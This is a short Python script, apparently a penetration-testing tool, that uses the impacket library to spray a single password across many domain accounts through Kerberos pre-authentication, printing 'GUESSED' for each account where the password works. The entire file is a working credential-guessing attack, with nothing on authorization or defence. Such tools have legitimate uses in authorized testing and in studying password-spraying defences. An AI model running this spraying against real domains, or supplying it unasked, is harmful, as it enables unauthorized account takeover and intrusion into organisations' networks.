#!/usr/bin/env python3
"""spray.py KDC REALM PASSWORD < NAMES: tries one password on many accounts, by Kerberos pre-authentication."""
import sys

from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT
from impacket.krb5.types import Principal
from impacket.krb5 import constants

kdc, realm, password = sys.argv[1:]
for name in sys.stdin.read().split():
    client = Principal(name, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
    try:
        getKerberosTGT(client, password, realm, '', '', kdcHost=kdc)
        print(name, 'GUESSED')
    except KerberosError as error:
        print(name, error.getErrorCode())
